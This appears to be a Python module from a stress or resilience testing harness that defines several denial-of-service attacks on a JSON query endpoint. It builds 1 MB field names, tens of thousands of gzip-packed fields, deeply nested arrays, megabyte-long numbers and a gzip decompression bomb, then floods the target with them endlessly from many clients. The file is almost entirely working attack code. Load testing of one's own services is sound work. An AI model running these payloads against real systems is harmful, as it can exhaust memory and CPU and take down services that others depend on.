"""Bodies that are dear to unpack, to read or to keep."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterable

from measure import QUERY
from raw_http import JSON, request
from soak_honest import USER

from attacks.table import attack
from attacks.target import Target
from attacks.tokens import CLIENTS, MEGABYTE, query

GZIP = JSON | {"Content-Encoding": "gzip"}
VARIANTS = 8
"""Bodies that are made beforehand, so that the client is not what is measured."""
NAMED = {"tenantId": "victim", "authToken": "any", "userMobile": USER}
BOMB = 100 * 2**20
MEMBERS = 8
"""So often the bomb is repeated in one body, as gzip allows."""


@attack("field names of 1 MB")
async def long_names(target: Target) -> None:
    def make(number: int) -> bytes:
        return query("victim", "any", **{f"{number:0>10}" * (MEGABYTE // 10): "1"})

    await target.flood(CLIENTS, make)


@attack("16,000 fields tokenN of 8 digits, gzip")
async def token_fields(target: Target) -> None:
    def value() -> str:
        return f"{target.random.randrange(10**8):0>8}"

    bodies = [packed({f"token{n}": value() for n in range(16_000)}) for _ in range(VARIANTS)]
    await send(target, bodies)


@attack("80,000 unknown fields, gzip")
async def unknown_fields(target: Target) -> None:
    await send(target, [packed({f"{v}{n}": "" for n in range(80_000)}) for v in range(VARIANTS)])


@attack("deep nesting")
async def deep(target: Target) -> None:
    half = MEGABYTE // 2
    opened = b'{"tenantId":"victim","authToken":"any","userMobile":'
    bodies = (
        b"[" * MEGABYTE,
        b"[" * half + b"]" * half,
        opened + b"[" * (half - 99) + b"]" * (half - 99) + b"}",
        opened + b'{"a":' * 100_000 + b"1" + b"}" * 100_001,
        opened + b'"1","more":' + b"[" * 1000 + b"]" * 1000 + b"}",
    )
    await send(target, [request("POST", QUERY, body) for body in bodies])


@attack("gzip bomb")
async def bomb(target: Target) -> None:
    packer = zlib.compressobj(9, wbits=31)
    member = b"".join(packer.compress(bytes(2**20)) for _ in range(BOMB // 2**20)) + packer.flush()
    bodies = (member, member * MEMBERS, gzip.compress(member * MEMBERS))
    await send(target, [request("POST", QUERY, body, GZIP) for body in bodies])


@attack("huge numbers")
async def numbers(target: Target) -> None:
    digits = "9" * (MEGABYTE - 200)
    values = (
        digits,
        f"-{digits}",
        f"0.{digits}",
        f"1e{digits}",
        f'"{digits}"',
        "1e999999999",
        "1e-999999999",
    )
    named = json.dumps(NAMED)[:-1]
    bodies = [f'{named},"{name}":{value}}}' for value in values for name in ("pageNum", "beginTime", "more")]
    await send(target, [request("POST", QUERY, body.encode()) for body in bodies])


def packed(more: dict[str, str]) -> bytes:
    """Make a query with further fields, in gzip."""
    body = json.dumps(NAMED | more, separators=(",", ":")).encode()
    return request("POST", QUERY, gzip.compress(body, 1), GZIP)


async def send(target: Target, requests: Iterable[bytes]) -> None:
    """Send these for ever, in a drawn order."""
    ready = tuple(requests)
    await target.flood(CLIENTS, lambda number: target.random.choice(ready))
